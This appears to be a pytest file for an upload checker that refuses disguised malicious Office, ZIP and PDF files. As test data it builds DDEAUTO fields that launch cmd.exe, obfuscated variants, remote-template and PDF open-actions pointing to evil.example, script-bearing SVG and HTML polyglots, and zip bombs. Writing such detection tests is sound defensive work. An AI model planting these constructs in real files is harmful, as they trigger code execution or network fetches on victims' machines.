"""Malicious files that look harmless: something is hidden in a part, a field, a link or a gap."""

import io
import struct
import tracemalloc
import zipfile

import pytest
from pikepdf import Dictionary, Name, String

from foundation.uploads import kinds, zipped
from foundation.uploads.checks import check_file
from foundation.uploads.kinds import EXCEL, PAPERS, PDF, POWERPOINT, WORD
from foundation.uploads.refusals import FileRefused
from tests.factories import files
from tests.factories.files import RELATIONSHIPS, action, office, pdf, relationships

MZ = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + b"\0" * 200
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
SHEET = {"xlsx": EXCEL.media_type}


def refusal(name: str, content: bytes) -> str:
    with pytest.raises(FileRefused) as refused:
        check_file(name=name, content=content, kinds=PAPERS, largest=kinds.LARGEST_WORD_FILE)
    return str(refused.value)


def accepted(name: str, content: bytes) -> object:
    return check_file(name=name, content=content, kinds=PAPERS, largest=kinds.LARGEST_PAPER).kind


# --- Archives ---------------------------------------------------------------------------------------------------------
def raw_archive(*entries: tuple[str, bytes], gap: bytes = b"", twice: bool = False) -> bytes:
    """Return an archive of uncompressed entries with `gap` after each. If `twice`, all list entries name the first."""
    body, listed = b"", b""
    for name, content in entries:
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w") as archive:
            archive.writestr(zipfile.ZipInfo(name), content)
        whole = made.getvalue()
        begins = whole.rindex(b"PK\x01\x02")
        place = 0 if twice else len(body)
        listed += whole[begins : begins + 42] + struct.pack("<I", place) + whole[begins + 46 : -22]
        body += whole[:begins] + gap
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(listed), len(body), 0)
    return body + listed + end


def with_second_list(count: int) -> bytes:
    """Return an archive whose ZIP64 end record leads `zipfile` to another, longer list than its usual end record."""
    head = b"PK\x03\x04" + b"\0" * 26
    hidden = (b"PK\x01\x02" + b"\0" * 42) * count
    far = struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, len(hidden), len(head))
    leads = struct.pack("<4sIQI", b"PK\x06\x07", 0, len(head) + len(hidden), 1)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(leads), len(head + hidden + far), 0)
    return head + hidden + far + leads + end


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (raw_archive(("a.xml", b"<a/>"), ("b.xml", b"<b/>"), gap=MZ), "damaged"),
        (raw_archive(("a.xml", b"<a/>"), ("b.xml", b"<b/>"), twice=True), "damaged"),
        (raw_archive(("a.xml?.exe", MZ)).replace(b"?", b"\0"), "unsafe name"),
        (raw_archive(("a\nb.xml", b"<a/>")), "unsafe name"),
        (raw_archive(("C:a.xml", b"<a/>")), "unsafe name"),
        (with_second_list(5000), "damaged"),
    ],
    ids=["between two parts", "one place for two parts", "NUL", "two lines", "a drive", "a second list"],
)
def test_an_archive_that_other_programs_would_read_differently_is_refused(content, says) -> None:
    with pytest.raises(FileRefused, match=says):
        zipped.open_archive(content)


@pytest.mark.parametrize("content", [office(WORD), files.zipped({"a": b"b" * 9000})], ids=["word", "zip"])
def test_an_archive_as_programs_write_it_is_opened(content) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert zipped.open_archive(content).namelist() == archive.namelist()


def test_an_archive_written_as_a_stream_is_opened() -> None:
    """In such an archive, the size of an entry follows its data."""

    class Stream(io.RawIOBase):
        written = b""

        def writable(self) -> bool:
            return True

        def write(self, more: bytes) -> int:
            self.written += bytes(more)
            return len(more)

    stream = Stream()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.xml", b"<a/>" * 100)
        archive.writestr("b.xml", b"<b/>")
    assert zipped.open_archive(stream.written).namelist() == ["a.xml", "b.xml"]


class Counting(zipfile.ZipFile):
    """Count the entries that are listed and opened and the bytes that are unpacked."""

    opened = unpacked = listed = 0

    def __init__(self, *args: object, **how: object) -> None:
        super().__init__(*args, **how)
        Counting.listed += len(self.infolist())

    def open(self, *args: object, **how: object) -> object:
        part = super().open(*args, **how)
        Counting.opened += 1
        read = part.read

        def counted(size: int = -1) -> bytes:
            chunk = read(size)
            Counting.unpacked += len(chunk)
            return chunk

        part.read = counted
        return part


@pytest.fixture
def counting(monkeypatch) -> type[Counting]:
    Counting.opened = Counting.unpacked = Counting.listed = 0
    monkeypatch.setattr(zipped.zipfile, "ZipFile", Counting)
    return Counting


def test_six_hundred_thousand_entries_declared_as_five_are_refused_without_reading_any(counting) -> None:
    content = files.with_declared_entries(600_000, 5)
    tracemalloc.start()
    try:
        assert "more than 4000 parts" in refusal("note.docx", content)
        most = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert (counting.listed, counting.opened, counting.unpacked) == (0, 0, 0)
    assert most < 1 << 20


def test_archives_inside_an_archive_count_towards_the_same_limits(counting) -> None:
    picture = {f"xl/media/{n}.png": b"\x89PNG" + b"\0" * 900_000 for n in range(40)}
    book = office(EXCEL, picture, defaults={"png": "image/png"})
    slides = office(POWERPOINT, {f"ppt/embeddings/{n}.xlsx": book for n in range(40)}, defaults=SHEET)
    assert "larger than 100 MB" in refusal("slides.pptx", slides)
    assert counting.unpacked <= zipped.LARGEST_UNPACKED
    counting.opened = counting.listed = 0
    many = office(EXCEL, {f"xl/{n}.xml": b"<a/>" for n in range(1500)})
    slides = office(POWERPOINT, {f"ppt/embeddings/{n}.xlsx": many for n in range(9)}, defaults=SHEET)
    assert "more than 4000 parts" in refusal("slides.pptx", slides)
    assert counting.listed <= zipped.MOST_ENTRIES
    assert counting.opened <= 2 * zipped.MOST_ENTRIES


def test_an_archive_inside_an_archive_inside_an_archive_is_refused() -> None:
    inner = office(EXCEL, {"xl/embeddings/more.xlsx": office(EXCEL)}, defaults=SHEET)
    slides = office(POWERPOINT, {"ppt/embeddings/book.xlsx": inner}, defaults=SHEET)
    assert "contains a program: ppt/embeddings/book.xlsx/xl/embeddings/more.xlsx" in refusal("slides.pptx", slides)


# --- Parts of Office files --------------------------------------------------------------------------------------------
def document(body: str) -> dict[str, bytes]:
    return {"word/document.xml": f"<w:document {W}><w:body>{body}</w:body></w:document>".encode()}


def field(*pieces: str) -> str:
    written = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{written}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


SIMPLE = '<w:p><w:fldSimple w:instr=" DDE cmd /c "/></w:p>'
CUT = field("<![CDATA[DD]]>", "&#69;<!-- -->AUTO c:\\windows\\cmd.exe")
WIDE = document(field("DDEAUTO cmd"))["word/document.xml"].decode().encode("utf-16")
STARTS = "a field or link that starts a program"
OTHER = "does not match its name"
LINK = {
    "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
}
CLICK = {"ppt/slides/slide1.xml": b'<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkClick action="ppaction://program"/></p:sld>'}
DRAWN = {"word/media/a.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"}


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("a.docx", office(WORD, document(field("DDEAUTO c:\\cmd.exe"))), STARTS),
        ("a.docx", office(WORD, document(CUT)), STARTS),
        ("a.docx", office(WORD, document(SIMPLE)), STARTS),
        ("a.docx", office(WORD, {"word/document.xml": WIDE}), STARTS),
        ("a.xlsx", office(EXCEL, LINK), STARTS),
        ("a.pptx", office(POWERPOINT, CLICK), STARTS),
        ("a.docx", office(WORD, DRAWN, defaults={"svg": "image/svg+xml"}), STARTS),
        ("a.docx", office(WORD, {"word/evil.xml": MZ}), OTHER),
        ("a.docx", office(WORD, {"word/evil.XML": MZ}, defaults={"XML": "application/xml"}), OTHER),
        ("a.docx", office(WORD, {"word/a.xml": b'<?xml version="1.0" encoding="utf-7"?><a/>'}), OTHER),
        ("a.docx", office(WORD, {"word/media/a.png": b"<html><body>"}, defaults={"png": "image/png"}), OTHER),
        ("a.docx", office(WORD, {"word/chunk.xml": b"<a/>"}, overrides={"word/chunk.xml": "text/html"}), OTHER),
        ("a.docx", office(WORD, {"word/chunk.bin": b"{rtf"}, defaults={"bin": "application/rtf"}), OTHER),
    ],
    ids=[
        "dde", "dde in pieces", "dde simple", "dde in utf-16", "dde of a workbook", "click", "script in a drawing",
        "program as xml", "program as XML", "encoding", "page as picture", "page by type", "rich text by type",
    ],
)  # fmt: skip
def test_a_part_that_starts_a_program_or_is_something_else_is_refused(name, content, says) -> None:
    assert says in refusal(name, content)


def test_usual_fields_and_links_are_accepted() -> None:
    fields = field("TOC \\o") + field(' HYPERLINK "https://idm.example/dde" ') + field("PAGE", "REF DDE1")
    assert accepted("a.docx", office(WORD, document(fields + '<w:fldSimple w:instr="PAGE"/>'))) == WORD


@pytest.mark.parametrize(
    "target",
    ["file:////evil.example/t.dotm", "file:///\\\\evil.example\\t.dotm", "file:%2f%2f%2f%2fevil.example/t.dotm",
     "\\\\evil.example\\t.dotm", " HTTPS://evil.example/t.dotm", "script:http://evil.example", "search-ms:query",
     "mk:@MSITStore:x", "file://evil.example/t.dotm"],
)  # fmt: skip
@pytest.mark.parametrize("name", ["word/_rels/settings.xml.rels", "word/_RELS/settings.xml.RELS"])
def test_a_template_on_the_network_is_refused_however_its_address_is_written(target, name) -> None:
    link = relationships(f'Type="{RELATIONSHIPS}/attachedTemplate" Target="{target}" TargetMode="External"')
    assert "opens another file on the network" in refusal("a.docx", office(WORD, {name: link}))


@pytest.mark.parametrize(
    "target", ["file:///C:\\Templates\\Note.dotm", "C:/Note.dotm", "Note.dotm", "file:///home/a.dotm"]
)
def test_a_template_on_a_disk_is_accepted(target) -> None:
    link = relationships(f'Type="{RELATIONSHIPS}/attachedTemplate" Target="{target}" TargetMode="External"')
    assert accepted("a.docx", office(WORD, {"word/_rels/settings.xml.rels": link})) == WORD


# --- Files of two kinds at once ---------------------------------------------------------------------------------------
def test_a_word_file_that_begins_as_a_pdf_or_a_page_is_refused() -> None:
    for first in (pdf(), b"<!doctype html><script>alert(1)</script>"):
        whole = io.BytesIO()
        with zipfile.ZipFile(whole, "w") as archive:
            archive.writestr("word/media/a.png", first)
            with zipfile.ZipFile(io.BytesIO(office(WORD, defaults={"png": "image/png"}))) as usual:
                for name in usual.namelist():
                    archive.writestr(name, usual.read(name))
        assert "both as a Word file and as another type of file" in refusal("a.docx", whole.getvalue())


def test_a_pdf_in_which_a_page_is_hidden_is_refused_wherever_it_is() -> None:
    page = b"<html><body onload=alert(1)>"
    far = pdf().replace(b"\nxref", b"\n%" + b"x" * 4000 + page + b"\nxref", 1)
    behind = pdf() + b"<b onclick=alert(1)>\n%%EOF\n"
    unused = pdf().replace(b"\nxref", b"\n9 0 obj\n<script >alert(1)</script>\nendobj\nxref", 1)
    for content in (far, behind, unused):
        assert "both as a PDF and as another type of file" in refusal("a.pdf", content)


def test_a_pdf_under_the_name_of_a_text_is_refused() -> None:
    assert "as another type of file" in refusal("a.txt", b"Words.\n%PDF-1.7\n1 0 obj <<>> endobj")


@pytest.mark.parametrize("kind", ["URI", "SubmitForm", "GoToR"])
def test_a_pdf_that_leads_elsewhere_as_soon_as_it_is_opened_is_refused(kind) -> None:
    act = action(kind, URI=String("https://evil.example/"), F=String("//evil.example/a"))
    later = action("GoTo", D=Name("/x"), Next=act)
    says = "starts a program or opens another file"
    assert says in refusal("a.pdf", pdf(OpenAction=act))
    assert says in refusal("a.pdf", pdf(OpenAction=later))
    assert says in refusal("a.pdf", pdf(AA=Dictionary(WC=act)))


def test_a_pdf_that_opens_at_one_of_its_pages_is_accepted() -> None:
    assert accepted("a.pdf", pdf(OpenAction=action("GoTo", D=Name("/First"))) + b"\n" * 500) == PDF
